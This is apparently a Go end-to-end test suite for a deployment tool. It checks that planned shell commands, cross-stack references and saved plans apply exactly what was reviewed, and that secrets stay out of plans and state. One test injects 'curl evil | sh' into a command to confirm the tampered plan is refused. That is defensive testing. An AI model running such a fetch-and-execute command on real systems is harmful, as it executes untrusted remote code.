//go:build unix

package e2e

// What a reviewer approves is what applies, and "No changes" means
// consistent (docs/plan.md): commands are part of the plan, references to
// other stacks are read when planning, and a saved plan binds what it showed.
// Each test runs on the file backends and on S3 state with DynamoDB locks.

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/deployer-dev/deployer/internal/testenv"
)

// promiseBackends are the backends every test of this file runs on.
var promiseBackends = []struct{ name, lock, state string }{
	{"file", "file", "file"},
	{"s3+dynamodb", "dynamodb", "s3"},
}

// onBackends runs body once per backend, with the deployer.yaml backend
// block and the environment deployer needs for it.
func onBackends(t *testing.T, body func(t *testing.T, backend string, env []string)) {
	for _, b := range promiseBackends {
		t.Run(b.name, func(t *testing.T) {
			r := newRemote(t, b.lock, b.state, "", true)
			body(t, r.backendYAML("1m", "10s", "30s"), r.env)
		})
	}
}

// projectOnBackends runs body once per backend with a project of tmpl
// whose %BACKEND% is that backend's block (yaml), with p.env = env.
func projectOnBackends(t *testing.T, tmpl string, body func(t *testing.T, p *project, yaml string, env []string)) {
	onBackends(t, func(t *testing.T, backend string, env []string) {
		yaml := strings.Replace(tmpl, "%BACKEND%", backend, 1)
		p := newProject(t, yaml)
		p.env = env
		body(t, p, yaml, env)
	})
}

// planJSON is the subset of `plan --json` these tests read.
type planJSON struct {
	Serial  int64      `json:"serial"`
	Lineage string     `json:"lineage"`
	Steps   []planStep `json:"steps"`
}

type planStep struct {
	Address string     `json:"address"`
	Action  string     `json:"action"`
	Runs    *string    `json:"runs"`
	Diffs   []planDiff `json:"diffs"`
	// MovedFrom is the address a move brought the component from.
	MovedFrom string `json:"moved_from"`
	// ImportID is the id an import step adopts.
	ImportID string `json:"import_id"`
}

type planDiff struct {
	Path string `json:"path"`
	Old  any    `json:"old"`
	New  any    `json:"new"`
}

func parsePlan(t *testing.T, r result) planJSON {
	t.Helper()
	var p planJSON
	if err := json.Unmarshal([]byte(r.stdout), &p); err != nil {
		t.Fatalf("plan --json: %v\n%s", err, r)
	}
	return p
}

const commandsYAML = `stack: cmds
%BACKEND%environments: {dev: {}}
services:
  web:
    components:
      site:
        kind: Command
        config: {title: hello}
        command:
          create: echo create >> ran.log
          update: echo update-v1 >> ran.log
          delete: echo delete-v1 >> ran.log
      extra:
        kind: Command
        command: {create: "true", delete: echo delete-extra >> ran.log}
`

func TestCommandsAreConfigurationInThePlan(t *testing.T) {
	projectOnBackends(t, commandsYAML, func(t *testing.T, p *project, yaml string, env []string) {
		p.mustRun(0, "deploy", "-e", "dev", "--yes")
		p.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")

		// A changed update command is an update, shown as a field diff, and runs.
		yaml = strings.Replace(yaml, "update-v1", "update-v2", 1)
		p.write("deployer.yaml", yaml)
		r := p.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode")
		if !strings.Contains(r.stdout, `~ site (Command) update`) ||
			!strings.Contains(r.stdout, `~ command.update: "echo update-v1 >> ran.log" -> "echo update-v2 >> ran.log"`) {
			t.Errorf("plan after changing command.update:\n%s", r)
		}
		pj := parsePlan(t, p.mustRun(0, "plan", "-e", "dev", "--json"))
		if d := findDiff(pj, "web/site", "command.update"); d == nil || d.New != "echo update-v2 >> ran.log" {
			t.Errorf("plan --json lacks the command.update diff: %+v", pj)
		}
		p.mustRun(0, "deploy", "-e", "dev", "--yes")
		if log := string(p.read("ran.log")); !strings.HasSuffix(log, "update-v2\n") {
			t.Errorf("deploy should run the new update command; ran.log:\n%s", log)
		}
		p.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")

		// A changed delete command alone is recorded, and runs nothing.
		yaml = strings.Replace(yaml, "delete-v1", "delete-v2", 1)
		p.write("deployer.yaml", yaml)
		r = p.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode")
		if !strings.Contains(r.stdout, `~ command.delete: "echo delete-v1 >> ran.log" -> "echo delete-v2 >> ran.log"`) {
			t.Errorf("plan after changing command.delete:\n%s", r)
		}
		before := string(p.read("ran.log"))
		r = p.mustRun(0, "deploy", "-e", "dev", "--yes")
		if after := string(p.read("ran.log")); after != before {
			t.Errorf("a delete-only change ran a command: ran.log went from %q to %q\n%s", before, after, r)
		}
		p.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")

		// A removed component's plan shows the exact command its delete runs.
		yaml = yaml[:strings.Index(yaml, "      extra:")]
		p.write("deployer.yaml", strings.Replace(yaml, "      site:", "      other:", 1))
		r = p.mustRun(0, "plan", "-e", "dev")
		for _, want := range []string{"- site (Command) delete", "runs: echo delete-v2 >> ran.log", "- extra (Command) delete", "runs: echo delete-extra >> ran.log"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("plan of removed components lacks %q:\n%s", want, r)
			}
		}
		planShowsRuns(t, p, env, "web/site", "delete", "echo delete-v2 >> ran.log", "runs `echo delete-v2 >> ran.log`")
		p.mustRun(0, "deploy", "-e", "dev", "--yes")
		if log := string(p.read("ran.log")); !strings.Contains(log, "delete-v2\n") || !strings.Contains(log, "delete-extra\n") {
			t.Errorf("deploy should run the shown delete commands; ran.log:\n%s", log)
		}
	})
}

const replaceYAML = `stack: replace
%BACKEND%environments: {dev: {}}
services:
  web:
    components:
      site: {kind: Command, command: {create: echo create-v1 >> ran.log, delete: echo delete-v1 >> ran.log, triggers: ["1"]}}
`

// TestReplaceRunsTheRecordedDelete: a replace (command.triggers changed)
// whose create and delete commands changed too deletes the existing
// instance with the delete it was created with, then creates with the new
// create; plan, --json and the job summary say which delete runs.
func TestReplaceRunsTheRecordedDelete(t *testing.T) {
	projectOnBackends(t, replaceYAML, func(t *testing.T, p *project, yaml string, env []string) {
		p.mustRun(0, "deploy", "-e", "dev", "--yes")

		yaml = strings.NewReplacer("create-v1", "create-v2", "delete-v1", "delete-v2", `["1"]`, `["2"]`).Replace(yaml)
		p.write("deployer.yaml", yaml)
		r := p.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode")
		for _, want := range []string{"± site (Command) replace", `~ command.triggers[0]: "1" -> "2"`, "forces replacement",
			`~ command.delete: "echo delete-v1 >> ran.log" -> "echo delete-v2 >> ran.log"`, "delete runs: echo delete-v1 >> ran.log"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("plan of the replace lacks %q:\n%s", want, r)
			}
		}
		planShowsRuns(t, p, env, "web/site", "replace", "echo delete-v1 >> ran.log", "delete runs `echo delete-v1 >> ran.log`")

		r = p.mustRun(0, "deploy", "-e", "dev", "--yes")
		if log := string(p.read("ran.log")); log != "create-v1\ndelete-v1\ncreate-v2\n" {
			t.Errorf("the replace should run the recorded delete, then the new create; ran.log:\n%s\n%s", log, r)
		}
		p.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")

		// The new instance is deleted with the new delete.
		p.write("deployer.yaml", yaml[:strings.Index(yaml, "services:")]+"services: {}\n")
		r = p.mustRun(0, "plan", "-e", "dev")
		if !strings.Contains(r.stdout, "runs: echo delete-v2 >> ran.log") {
			t.Errorf("plan of the removed component should run the new delete:\n%s", r)
		}
	})
}

// planShowsRuns checks that `plan --json` (dev) gives step addr action and
// runs, and that the job summary of `plan` under GitHub Actions shows
// summary; p.env is env again afterwards.
func planShowsRuns(t *testing.T, p *project, env []string, addr, action, runs, summary string) {
	t.Helper()
	pj := parsePlan(t, p.mustRun(0, "plan", "-e", "dev", "--json"))
	if s := findStep(pj, addr); s == nil || s.Action != action || s.Runs == nil || *s.Runs != runs {
		t.Errorf("plan --json: %s should be a %s that runs %q: %+v", addr, action, runs, pj)
	}
	file := filepath.Join(t.TempDir(), "summary.md")
	p.env = append(append([]string{}, env...), "GITHUB_ACTIONS=true", "GITHUB_STEP_SUMMARY="+file)
	defer func() { p.env = env }()
	p.mustRun(0, "plan", "-e", "dev")
	if md, _ := os.ReadFile(file); !strings.Contains(string(md), summary) {
		t.Errorf("job summary lacks %q:\n%s", summary, md)
	}
}

func findStep(p planJSON, addr string) *planStep {
	for i := range p.Steps {
		if p.Steps[i].Address == addr {
			return &p.Steps[i]
		}
	}
	return nil
}

func findDiff(p planJSON, addr, path string) *planDiff {
	s := findStep(p, addr)
	if s == nil {
		return nil
	}
	for i := range s.Diffs {
		if s.Diffs[i].Path == path {
			return &s.Diffs[i]
		}
	}
	return nil
}

const refBaseYAML = `stack: base
%BACKEND%environments: {dev: {}}
services:
  base:
    components:
      version:
        kind: Command
        config: {version: "1"}
        command:
          create: printf '{"version":"%s","api_token":"tok-%s-secret"}' "$DEPLOYER_CONFIG_VERSION" "$DEPLOYER_CONFIG_VERSION" > "$DEPLOYER_OUTPUTS"
          update: printf '{"version":"%s","api_token":"tok-%s-secret"}' "$DEPLOYER_CONFIG_VERSION" "$DEPLOYER_CONFIG_VERSION" > "$DEPLOYER_OUTPUTS"
`

const refAppYAML = `stack: app
%BACKEND%environments: {dev: {}}
services:
  upstream:
    components:
      base:
        kind: StackReference
        config: {stack: base}
  app:
    components:
      consumer:
        kind: Command
        depends_on: [upstream/base]
        command:
          create: ./consume.sh
          update: ./consume.sh
`

const consumeScript = `#!/bin/sh
printf '%s' "$DEPLOYER_DEP_UPSTREAM_BASE_OUTPUTS_BASE_VERSION_VERSION" > seen.txt
printf '%s' "$DEPLOYER_DEP_UPSTREAM_BASE_OUTPUTS_BASE_VERSION_API_TOKEN" > token.txt
`

// TestStackReferenceIsReadWhenPlanningWithoutPulumi: a stack of Command
// components reads another stack's outputs through a StackReference with no
// Pulumi CLI on PATH; when the referenced outputs move on, plan shows the
// dependent as an update with (inputs) diffs and exits 2, and one deploy
// applies the new value. Secret outputs stay secret; a missing or empty
// referenced stack is an error naming it.
func TestStackReferenceIsReadWhenPlanningWithoutPulumi(t *testing.T) {
	for _, b := range promiseBackends {
		t.Run(b.name, func(t *testing.T) {
			r := newRemote(t, b.lock, b.state, t.TempDir(), true)
			backend := r.backendYAML("1m", "10s", "30s")
			env := append([]string{"PATH=/usr/bin:/bin", "DEPLOYER_SECRETS_PASSPHRASE=reference test"}, r.env...)
			base := newProject(t, strings.Replace(refBaseYAML, "%BACKEND%", backend, 1))
			app := newProject(t, strings.Replace(refAppYAML, "%BACKEND%", backend, 1))
			app.write("consume.sh", consumeScript)
			base.env, app.env = env, env

			res := app.mustRun(1, "plan", "-e", "dev")
			if !strings.Contains(res.stderr, "upstream/base: StackReference to stack base environment dev") || !strings.Contains(res.stderr, "deploy it first") {
				t.Errorf("plan before the referenced stack exists should name it and say to deploy it:\n%s", res)
			}

			base.mustRun(0, "deploy", "-e", "dev", "--yes")
			app.mustRun(0, "deploy", "-e", "dev", "--yes")
			if got := string(app.read("seen.txt")); got != "1" {
				t.Fatalf("consumer saw version %q, want 1", got)
			}
			if got := string(app.read("token.txt")); got != "tok-1-secret" {
				t.Errorf("consumer got api_token %q, want the real value", got)
			}
			app.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")

			base.write("deployer.yaml", strings.Replace(strings.Replace(refBaseYAML, "%BACKEND%", backend, 1), `version: "1"`, `version: "2"`, 1))
			base.mustRun(0, "deploy", "-e", "dev", "--yes")

			res = app.mustRun(2, "plan", "-e", "dev", "--detailed-exitcode")
			for _, want := range []string{"~ consumer (Command) update", `~ (inputs).upstream/base.outputs.base/version.version: "1" -> "2"`,
				"(inputs).upstream/base.outputs.base/version.api_token: (sensitive) -> (sensitive)", "~ base (StackReference) update"} {
				if !strings.Contains(res.stdout, want) {
					t.Errorf("plan after base moved on lacks %q:\n%s", want, res)
				}
			}
			js := app.mustRun(0, "plan", "-e", "dev", "--json")
			for _, out := range []string{res.stdout, res.stderr, js.stdout, js.stderr} {
				if strings.Contains(out, "tok-1-secret") || strings.Contains(out, "tok-2-secret") {
					t.Errorf("a plan printed the referenced secret output:\n%s", out)
				}
			}
			if d := findDiff(parsePlan(t, js), "app/consumer", "(inputs).upstream/base.outputs.base/version.version"); d == nil || d.New != "2" {
				t.Errorf("plan --json lacks the (inputs) diff of app/consumer: %s", js.stdout)
			}

			// A saved plan binds the values it read: base moving on to 3
			// refuses it; base back at 2 lets it apply.
			app.mustRun(0, "plan", "-e", "dev", "--out", "ref.json")
			baseAt := func(v string) {
				base.write("deployer.yaml", strings.Replace(strings.Replace(refBaseYAML, "%BACKEND%", backend, 1), `version: "1"`, `version: "`+v+`"`, 1))
				base.mustRun(0, "deploy", "-e", "dev", "--yes")
			}
			baseAt("3")
			res = app.mustRun(4, "deploy", "-e", "dev", "--plan", "ref.json", "--yes")
			if want := "services.upstream.components.base.(outputs).outputs.base/version.api_token: planned (sensitive), now (sensitive)"; !strings.Contains(res.stderr, want) {
				t.Errorf("a saved plan whose reference moved on should be refused naming %q:\n%s", want, res)
			}
			baseAt("2")
			app.mustRun(0, "deploy", "-e", "dev", "--plan", "ref.json", "--yes")
			if got := string(app.read("seen.txt")); got != "2" {
				t.Errorf("after one deploy the consumer saw version %q, want 2", got)
			}
			app.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")
			if raw := app.mustRun(0, "state", "show", "-e", "dev", "--json").stdout; strings.Contains(raw, "tok-2-secret") {
				t.Errorf("state show of app prints the referenced secret:\n%s", raw)
			}
			if b.state == "file" {
				data, err := os.ReadFile(filepath.Join(strings.TrimPrefix(r.state, "file://"), "stacks", "app", "dev", "state.json"))
				if err != nil {
					t.Fatal(err)
				}
				if strings.Contains(string(data), "tok-2-secret") {
					t.Errorf("app's state.json holds the referenced secret in plain text")
				}
			}

			base.mustRun(0, "destroy", "-e", "dev", "--yes")
			res = app.mustRun(1, "plan", "-e", "dev")
			if !strings.Contains(res.stderr, "stack base environment dev") || !strings.Contains(res.stderr, "no components") {
				t.Errorf("plan against an emptied referenced stack should say so:\n%s", res)
			}
		})
	}
}

const savedPlanYAML = `stack: saved
%BACKEND%environments: {dev: {}}
services:
  web:
    components:
      site:
        kind: Command
        config:
          image: nginx:1.1
          db_password: ${env:DB_PASSWORD}
        command:
          create: echo "create $DEPLOYER_CONFIG_IMAGE" >> ran.log
          update: echo "update $DEPLOYER_CONFIG_IMAGE" >> ran.log
`

// TestSavedPlanBindsWhatItShowed: deploy --plan applies exactly the saved
// plan, and refuses (exit 4, before any lock, naming the first differing
// path) a changed value, a changed command, a changed ${env:...} secret
// (nothing printed), a moved state serial and another deployer version.
func TestSavedPlanBindsWhatItShowed(t *testing.T) {
	onBackends(t, func(t *testing.T, backend string, env []string) {
		yaml := strings.Replace(savedPlanYAML, "%BACKEND%", backend, 1)
		p := newProject(t, yaml)
		secretEnv := append([]string{"DEPLOYER_SECRETS_PASSPHRASE=saved plan test"}, env...)
		p.env = append([]string{"DB_PASSWORD=first-Secret-1"}, secretEnv...)
		p.mustRun(0, "deploy", "-e", "dev", "--yes")

		reviewed := strings.Replace(yaml, "nginx:1.1", "nginx:1.2", 1)
		p.write("deployer.yaml", reviewed)
		p.mustRun(0, "plan", "-e", "dev", "--out", "p.json")
		fi, err := os.Stat(filepath.Join(p.dir, "p.json"))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != 0o600 {
			t.Errorf("plan --out wrote mode %v, want 0600", fi.Mode().Perm())
		}
		saved := string(p.read("p.json"))
		if strings.Contains(saved, "first-Secret-1") {
			t.Errorf("the saved plan holds the secret in plain text:\n%s", saved)
		}
		if !strings.Contains(saved, `"digest": "hmac-sha256-placed"`) || !strings.Contains(saved, `"deployer:digest": "hmac-sha256:`) {
			t.Errorf("the saved plan should digest secrets with HMAC under the state's key:\n%s", saved)
		}

		refused := func(what, want string) result {
			t.Helper()
			r := p.mustRun(4, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
			if !strings.Contains(r.stderr, "saved plan is stale") || !strings.Contains(r.stderr, want) {
				t.Errorf("%s: the refusal should name %q:\n%s", what, want, r)
			}
			if strings.Contains(r.stderr, "Acquired lock") {
				t.Errorf("%s: refused only after taking the lock:\n%s", what, r)
			}
			return r
		}
		p.write("deployer.yaml", strings.Replace(reviewed, "nginx:1.2", "evil:1", 1))
		refused("changed value", `services.web.components.site.config.image: planned "nginx:1.2", now "evil:1"`)
		p.write("deployer.yaml", strings.Replace(reviewed, `echo "update`, `curl evil | sh; echo "update`, 1))
		refused("changed command", `services.web.components.site.command.update: planned "echo \"update $DEPLOYER_CONFIG_IMAGE\" >> ran.log", now "curl evil | sh; echo`)
		p.write("deployer.yaml", reviewed)
		p.env = append([]string{"DB_PASSWORD=other-Secret-2"}, secretEnv...)
		r := refused("changed secret", "services.web.components.site.config.db_password: planned (sensitive), now (sensitive)")
		if strings.Contains(r.stdout+r.stderr, "first-Secret-1") || strings.Contains(r.stdout+r.stderr, "other-Secret-2") {
			t.Errorf("the refusal printed a secret:\n%s", r)
		}
		p.env = append([]string{"DB_PASSWORD=first-Secret-1"}, secretEnv...)
		p.write("p-other-version.json", strings.Replace(saved, `"deployer_version": "`, `"deployer_version": "v0.0.1-old `, 1))
		r = p.mustRun(4, "deploy", "-e", "dev", "--plan", "p-other-version.json", "--yes")
		if !strings.Contains(r.stderr, `deployer version: planned "v0.0.1-old`) {
			t.Errorf("a plan of another deployer version should be refused naming both:\n%s", r)
		}
		if log := string(p.read("ran.log")); strings.Contains(log, "evil") || strings.Count(log, "\n") != 1 {
			t.Errorf("a refused plan ran something; ran.log:\n%s", log)
		}

		// Nothing differs: exactly the planned change applies.
		p.mustRun(0, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
		if log := string(p.read("ran.log")); !strings.HasSuffix(log, "update nginx:1.2\n") {
			t.Errorf("deploy --plan should apply the reviewed nginx:1.2; ran.log:\n%s", log)
		}
		refused("moved serial", "state: planned serial 1")
	})
}

// TestSavedPlanOfAFirstDeployKeysItsSecrets: a plan saved before the state
// has a data key (a first deploy) keys its secret digests with a data key
// of its own, wrapped by the secrets provider (passphrase, and awskms
// against local-kms): the file holds neither the secret nor its plain
// SHA-256; the plan applies with the same provider, and a secret changed
// after the plan is still refused. Without a key plan --out fails and
// says what to set; a file with unkeyed digests is refused.
func TestSavedPlanOfAFirstDeployKeysItsSecrets(t *testing.T) {
	const weak = "weak1"
	noKey := []string{"DEPLOYER_SECRETS_PASSPHRASE=", "DEPLOYER_SECRETS_PASSPHRASE_FILE=", "PULUMI_CONFIG_PASSPHRASE=", "PULUMI_CONFIG_PASSPHRASE_FILE="}
	for _, provider := range []string{"passphrase", "awskms"} {
		t.Run(provider, func(t *testing.T) {
			yaml, env, block := "", []string{"DEPLOYER_SECRETS_PASSPHRASE=first plan key"}, `"salt"` // block: a key of binding.secrets only this provider writes
			if provider == "awskms" {
				endpoint := testenv.Require(t, testenv.KMSEndpoint, "local-kms")
				yaml = "pulumi: {secrets_provider: 'awskms://" + kmsKey(t, endpoint) + "?region=us-east-1'}\n"
				env = []string{"AWS_ENDPOINT_URL_KMS=" + endpoint, "AWS_ACCESS_KEY_ID=test", "AWS_SECRET_ACCESS_KEY=test", "AWS_REGION=", "AWS_PROFILE="}
				block = `"encrypted_key"`
			}
			p := newProject(t, strings.Replace(savedPlanYAML, "%BACKEND%", yaml, 1))
			base := append(append([]string{}, noKey...), env...)
			p.env = append([]string{"DB_PASSWORD=" + weak}, base...)

			if provider == "passphrase" {
				p.env = append([]string{"DB_PASSWORD=" + weak}, noKey...)
				r := p.mustRun(1, "plan", "-e", "dev", "--out", "p.json")
				if !strings.Contains(r.stderr, "DEPLOYER_SECRETS_PASSPHRASE") {
					t.Errorf("plan --out of secrets without a key should say what to set:\n%s", r)
				}
				if _, err := os.Stat(filepath.Join(p.dir, "p.json")); err == nil {
					t.Errorf("a failed plan --out left a file")
				}
				p.mustRun(0, "plan", "-e", "dev")
				if out := p.mustRun(0, "plan", "-e", "dev", "--json").stdout; strings.Contains(out, `"binding"`) || strings.Contains(out, weak) {
					t.Errorf("plan --json without a key should print no binding:\n%s", out)
				}
				p.env = append([]string{"DB_PASSWORD=" + weak}, base...)
			}
			p.mustRun(0, "plan", "-e", "dev", "--out", "p.json")
			saved := p.read("p.json")
			plain := sha256.Sum256([]byte(weak))
			encoded := sha256.Sum256([]byte(`"` + weak + `"`))
			for what, s := range map[string]string{"the secret": weak, "its SHA-256": hex.EncodeToString(plain[:]),
				"the SHA-256 of its JSON": hex.EncodeToString(encoded[:]), "an unkeyed digest": `"sha256`} {
				if bytes.Contains(saved, []byte(s)) {
					t.Errorf("the saved plan holds %s (%s):\n%s", what, s, saved)
				}
			}
			if !bytes.Contains(saved, []byte(`"deployer:digest": "hmac-sha256:`)) || !bytes.Contains(saved, []byte(`"secrets": {`)) ||
				!bytes.Contains(saved, []byte(block)) {
				t.Errorf("the saved plan should key its digests with its own wrapped key (%s):\n%s", block, saved)
			}

			p.write("p-unkeyed.json", strings.Replace(string(saved), `"digest": "hmac-sha256-placed"`, `"digest": "sha256"`, 1))
			r := p.mustRun(4, "deploy", "-e", "dev", "--plan", "p-unkeyed.json", "--yes")
			if !strings.Contains(r.stderr, "secrets digest: planned sha256 (unkeyed") || !strings.Contains(r.stderr, "make the plan again") {
				t.Errorf("a plan with unkeyed digests should be refused:\n%s", r)
			}
			p.env = append([]string{"DB_PASSWORD=other-Secret-2"}, base...)
			r = p.mustRun(4, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
			if !strings.Contains(r.stderr, "config.db_password: planned (sensitive), now (sensitive)") || strings.Contains(r.stderr, "Acquired lock") ||
				strings.Contains(r.stdout+r.stderr, "other-Secret-2") || strings.Contains(r.stdout+r.stderr, weak) {
				t.Errorf("a secret changed after the plan should be refused before the lock, printing nothing:\n%s", r)
			}
			if provider == "passphrase" {
				p.env = append([]string{"DB_PASSWORD=" + weak}, append(append([]string{}, noKey...), "DEPLOYER_SECRETS_PASSPHRASE=not the plan key")...)
				r = p.mustRun(1, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
				if !strings.Contains(r.stderr, "saved plan's own secrets key") || !strings.Contains(r.stderr, "passphrase") {
					t.Errorf("another passphrase should not open the plan's key:\n%s", r)
				}
			}
			if _, err := os.Stat(filepath.Join(p.dir, "ran.log")); err == nil {
				t.Errorf("a refused plan ran something: %s", p.read("ran.log"))
			}

			p.env = append([]string{"DB_PASSWORD=" + weak}, base...)
			p.mustRun(0, "deploy", "-e", "dev", "--plan", "p.json", "--yes")
			if log := string(p.read("ran.log")); log != "create nginx:1.1\n" {
				t.Errorf("deploy --plan should apply the planned create; ran.log:\n%s", log)
			}
			p.mustRun(0, "plan", "-e", "dev", "--detailed-exitcode")
		})
	}
}
